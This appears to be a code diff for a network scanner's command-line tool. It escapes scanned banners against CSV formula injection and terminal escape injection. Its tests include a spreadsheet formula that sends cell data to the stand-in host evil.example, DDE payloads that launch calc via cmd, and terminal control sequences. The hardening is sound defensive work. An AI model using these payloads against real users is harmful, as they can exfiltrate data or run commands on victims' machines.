@@ -9,7 +9,7 @@ use serde_json::{Value, json};
 use tokio_stream::StreamExt;
 use tonic::transport::Channel;
 
-use super::{connect, exit_for, print_status, rfc3339};
+use super::{connect, exit_for, print_status, rfc3339, terminal::inert};
 use crate::cli::Output;
 
 /// What to scan.
@@ -88,7 +88,7 @@ pub async fn run(args: Args) -> ExitCode {
             }))
             .expect("json")
         ),
-        Output::Table => print_table(&scan, &findings),
+        Output::Table => super::outln!("{}", table(&scan, &findings)),
         Output::Csv => super::outln!("{}", csv(&findings).trim_end()),
         Output::Sarif => super::outln!(
             "{}",
@@ -133,7 +133,7 @@ async fn follow(
             "{} · {} findings · {}",
             state_name(s.state),
             s.findings_count,
-            event.message
+            inert(&event.message)
         ));
         let done = !matches!(
             pb::ScanState::try_from(s.state),
@@ -171,22 +171,24 @@ async fn all_findings(
     }
 }
 
-fn print_table(scan: &pb::Scan, findings: &[pb::Finding]) {
-    super::outln!(
-        "Scan {}: {} · {}% · {} findings · targets {} · ports {}",
-        scan.id,
+/// The scan and its findings as a table.
+fn table(scan: &pb::Scan, findings: &[pb::Finding]) -> String {
+    let mut out = String::new();
+    out.push_str(&format!(
+        "Scan {}: {} · {}% · {} findings · targets {} · ports {}\n",
+        inert(&scan.id),
         state_name(scan.state),
         scan.progress_percent,
         scan.findings_count,
-        scan.targets.join(" "),
-        scan.ports
-    );
+        inert(&scan.targets.join(" ")),
+        inert(&scan.ports)
+    ));
     if !scan.error.is_empty() {
-        super::outln!("Error: {}", scan.error);
+        out.push_str(&format!("Error: {}\n", inert(&scan.error)));
     }
     if findings.is_empty() {
-        super::outln!("No findings.");
-        return;
+        out.push_str("No findings.");
+        return out;
     }
     let mut table = Table::new();
     table.load_preset(UTF8_FULL_CONDENSED);
@@ -208,7 +210,7 @@ fn print_table(scan: &pb::Scan, findings: &[pb::Finding]) {
             .chars()
             .take(40)
             .collect();
-        table.add_row([
+        let cells = [
             if f.hostname.is_empty() {
                 f.target.clone()
             } else {
@@ -223,9 +225,12 @@ fn print_table(scan: &pb::Scan, findings: &[pb::Finding]) {
                 .as_ref()
                 .map_or_else(|| f.title.clone(), |a| a.summary.clone()),
             banner,
-        ]);
+        ];
+        // Banners and titles are what scanned services said: shown, never acted on.
+        table.add_row(cells.map(|c| inert(&c).into_owned()));
     }
-    super::outln!("{table}");
+    out.push_str(&table.to_string());
+    out
 }
 
 fn scan_json(s: &pb::Scan) -> Value {
@@ -274,12 +279,24 @@ fn finding_json(f: &pb::Finding) -> Value {
     })
 }
 
-/// A CSV field, quoted when it has to be (RFC 4180).
+/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV field: neutralised (a cell a spreadsheet would run as a formula gets a leading
+/// `'`, which makes it text: a banner `=HYPERLINK(...)` stays a banner), its control
+/// characters escaped (one record per line, nothing for a terminal to act on), then quoted
+/// when it has to be (RFC 4180).
 fn field(v: &str) -> String {
+    let v = if v.starts_with(FORMULA_STARTS) {
+        format!("'{v}")
+    } else {
+        v.to_owned()
+    };
+    let v = inert(&v);
     if v.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", v.replace('"', "\"\""))
     } else {
-        v.to_owned()
+        v.into_owned()
     }
 }
 
@@ -402,6 +419,83 @@ mod tests {
         let row = out.lines().nth(1).unwrap();
         assert!(row.contains("\"Port 22/tcp open, \"\"ssh\"\"\""), "{row}");
         assert_eq!(out.lines().next().unwrap().split(',').count(), 15);
+    }
+
+    /// The records of `text` (RFC 4180: quoted fields may hold commas, quotes, line breaks).
+    fn records(text: &str) -> Vec<Vec<String>> {
+        let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
+        let (mut quoted, mut chars) = (false, text.chars().peekable());
+        while let Some(c) = chars.next() {
+            match (quoted, c) {
+                (true, '"') if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    field.push('"');
+                }
+                (true, '"') => quoted = false,
+                (true, c) => field.push(c),
+                (false, '"') => quoted = true,
+                (false, ',') => record.push(std::mem::take(&mut field)),
+                (false, '\n') => {
+                    record.push(std::mem::take(&mut field));
+                    records.push(std::mem::take(&mut record));
+                }
+                (false, c) => field.push(c),
+            }
+        }
+        if !field.is_empty() || !record.is_empty() {
+            record.push(field);
+            records.push(record);
+        }
+        records
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        for banner in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1+1",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            let out = csv(&[pb::Finding {
+                banner: banner.into(),
+                ..finding()
+            }]);
+            let rows = records(&out);
+            assert_eq!(rows.len(), 2, "{out:?}");
+            let cell = &rows[1][14];
+            assert!(cell.starts_with('\''), "{banner:?} became {cell:?}");
+        }
+        let rows = records(&csv(&[finding()]));
+        assert_eq!(rows[1][5], "ssh", "ordinary cells are left alone");
+        assert_eq!(rows[1][11], "Port 22/tcp open, \"ssh\"");
+    }
+
+    #[test]
+    fn scan_tables_and_csv_are_inert_on_a_terminal() {
+        let hostile = pb::Finding {
+            hostname: "h\u{9b}31m".into(),
+            title: "\u{202e}txt.exe".into(),
+            banner: "\u{1b}]0;owned\u{7}\u{1b}[2J SSH-2.0".into(),
+            ..finding()
+        };
+        let scan = pb::Scan {
+            id: "s1".into(),
+            error: "engine said \u{1b}[31mno".into(),
+            ..Default::default()
+        };
+        for text in [
+            table(&scan, std::slice::from_ref(&hostile)),
+            csv(std::slice::from_ref(&hostile)),
+        ] {
+            assert_eq!(
+                crate::commands::terminal_hazards(&text),
+                Vec::<char>::new(),
+                "{text}"
+            );
+        }
     }
 
     #[test]
